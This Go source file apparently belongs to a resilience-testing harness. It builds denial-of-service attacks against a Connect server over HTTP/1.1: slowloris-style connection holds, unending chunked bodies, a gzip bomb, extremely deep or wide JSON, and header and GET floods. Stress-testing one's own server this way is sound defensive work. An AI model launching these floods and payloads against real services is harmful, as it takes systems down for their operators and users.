package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	"strings"
)

// Requests of HTTP/1.1, made by hand: package http1 would refuse to make some of them.

// h1Head begins a request for a method of the victim's; more are whole lines.
func h1Head(method, more string) string {
	return fmt.Sprintf("POST %s%s HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\n%s", attackedService, method, more)
}

// h1Post is a whole request.
func h1Post(method, more, body string) []byte {
	return fmt.Appendf(nil, "%sContent-Length: %d\r\n\r\n%s", h1Head(method, more), len(body), body)
}

// gzipped compresses s.
func gzipped(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s)) //nolint:errcheck // to memory
	w.Close()
	return b.String()
}

// hold says b on each of n connections, which stay, and reads what comes.
func (x *attacker) hold(n int, b []byte) {
	const at = 50 // at a time
	x.many(at, func(int) {
		for range n / at {
			c := x.dial()
			x.hear(c)
			x.say(c, b)
		}
		x.wait()
	})
}

// h1Flood says what next makes for ever, on eight connections: whenever the victim has had
// enough of one, on another.
func (x *attacker) h1Flood(next func(i uint32) []byte) {
	x.many(8, func(int) {
		for x.ctx.Err() == nil {
			c := x.dial()
			x.hear(c)
			if x.repeat(c, next); c != nil {
				c.Close()
			}
		}
	})
}

// http1Attacks are on a server that speaks Connect over HTTP/1.1.
func http1Attacks() []*attack {
	all := append(h1Holds(), h1Floods()...)
	for _, a := range all {
		a.grpc = true
	}
	return all
}

// h1Holds make a server hold what comes, or what it answers.
//
// Its length is that of the table of cases, of which each stands for itself.
func h1Holds() []*attack {
	hold := func(name, why string, n int, b []byte) *attack {
		return &attack{name: name, why: why, bound: oneAddress, run: func(x *attacker) { x.hold(n, b) }}
	}
	unread := func(name, why string, b []byte) *attack {
		return &attack{name: name, why: why, bound: oneAddress, run: func(x *attacker) {
			x.many(400, func(int) { x.repeat(x.dial(), func(uint32) []byte { return b }); x.wait() })
		}}
	}
	commas := func(n int) string { return "X-Bin: " + strings.Repeat(",", n) + "\r\n" }
	chunks := "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat("64\r\n"+strings.Repeat(" ", 100)+"\r\n", 600)
	return []*attack{
		hold("h1-values-many", "a head of 2 KB with 1,700 values in one on each of 4,500 connections", 4500, h1Post("Wait", commas(1700), "{}")),
		hold("h1-heads-torn", "15 KB of a head that does not end on each of 4,500 connections", 4500, []byte(h1Head("Wait", commas(15000)))),
		hold("h1-bodies-declared", "1 KB of a body of 15 MB on each of 4,500 connections", 4500, []byte(h1Head("Wait", "Content-Length: 15000000\r\n\r\n"+strings.Repeat(" ", 1<<10)))),
		hold("h1-bodies-invited", "bodies of 15 MB that wait to be invited, on each of 4,500 connections", 4500, []byte(h1Head("Wait", "Expect: 100-continue\r\nContent-Length: 15000000\r\n\r\n"))),
		hold("h1-chunks-torn", "60 KB in chunks of a body that does not end on each of 1,000 connections", 1000, []byte(h1Head("Wait", chunks))),
		{name: "h1-refused-behind", why: "what is refused for its values, behind a call that waits", bound: oneConn, run: func(x *attacker) {
			c := x.dial()
			x.hear(c)
			x.say(c, h1Post("Wait", "", "{}"))
			b := h1Post("Echo", commas(15000), "{}")
			x.times(c, 8000, func(uint32) []byte { return b })
		}},
		{name: "h1-calls-wait", why: "8,000 calls behind one that waits on each of 32 connections", bound: oneAddress, run: func(x *attacker) {
			b := h1Post("Wait", "", "{}")
			x.many(32, func(int) {
				c := x.dial()
				x.hear(c)
				x.times(c, 8000, func(uint32) []byte { return b })
			})
		}},
		{name: "h1-answers-unread-many", why: "answers of 1 MB on 400 connections that read nothing, once one was read; JSON is made beside what it is made of", bound: manyAddresses, run: func(x *attacker) {
			b := h1Post("Answer", "", `{"id":1048576}`)
			if c := x.dial(); x.say(c, b) {
				io.CopyN(io.Discard, c, 1<<20) //nolint:errcheck // the others find out as well
			}
			x.many(400, func(int) { x.repeat(x.dial(), func(uint32) []byte { return b }); x.wait() })
		}},
		unread("h1-refusals-unread-many", "calls of no method on 400 connections that read nothing", h1Post("Nothing", "", "{}")),
	}
}

// h1Floods cost the victim more than the attacker, as many as it takes.
//
// Its length is that of the table of cases, of which each stands for itself.
func h1Floods() []*attack {
	flood := func(name, why string, b []byte) *attack {
		return &attack{name: name, why: why, bound: oneAddress, run: func(x *attacker) { x.h1Flood(func(uint32) []byte { return b }) }}
	}
	echo := func(body string) []byte { return h1Post("Echo", "", body) }
	deep := strings.Repeat(`{"a":`, 60) + "1" + strings.Repeat("}", 60)
	get := func(query string) []byte {
		return []byte("GET " + attackedService + "Echo?connect=v1&" + query + " HTTP/1.1\r\nHost: victim\r\n\r\n")
	}
	return []*attack{
		flood("h1-chunks-tiny", "a body of 256 KB in chunks of a byte", []byte(h1Head("Echo", "Transfer-Encoding: chunked\r\n\r\n"+strings.Repeat("1\r\n \r\n", 1<<18)+"0\r\n\r\n"))),
		flood("h1-gzip-bomb", "15 KB that inflate to 15 MB", h1Post("Echo", "Content-Encoding: gzip\r\n", gzipped(`{"text":"`+strings.Repeat("x", 15<<20)+`"}`))),
		flood("h1-json-deep", "JSON that is nested 256,000 deep", echo(`{"x":`+strings.Repeat("[", 1<<18)+`}`)),
		flood("h1-json-wide", "JSON of nothing known, nested 60 deep, 600 times", echo(`{"x":[`+strings.Repeat(deep+",", 600)+"1]}")),
		flood("h1-json-digits", "a number of 256,000 digits", echo(`{"id":`+strings.Repeat("9", 1<<18)+"}")),
		flood("h1-json-exponents", "numbers whose digits and exponents make each other good", echo(`{"list":[`+strings.Repeat("1"+strings.Repeat("0", 34)+"e-33,", 5000)+"1]}")),
		flood("h1-json-key", "a key of 256 KB", echo(`{"`+strings.Repeat("k", 1<<18)+`":1}`)),
		flood("h1-json-again", "the same members again and again", echo("{"+strings.Repeat(`"list":[`+strings.Repeat("1,", 1000)+`1],"text":"`+strings.Repeat("t", 1000)+`",`, 500)+`"id":1}`)),
		flood("h1-get", "GETs with 10 KB in base64", get("encoding=proto&base64=1&message="+base64.RawURLEncoding.EncodeToString(pbMessage(1, strings.Repeat("t", 10000))))),
		flood("h1-get-again", "GETs with a parameter a thousand times", get("encoding=json&"+strings.Repeat("message=%7B%7D&", 1000))),
		{name: "h1-heads", why: "heads that are other ones each time", bound: oneAddress, run: func(x *attacker) {
			x.h1Flood(func(i uint32) []byte { return h1Post("Echo", fmt.Sprintf("X-%d: %d\r\n", i, i), "{}") })
		}},
	}
}
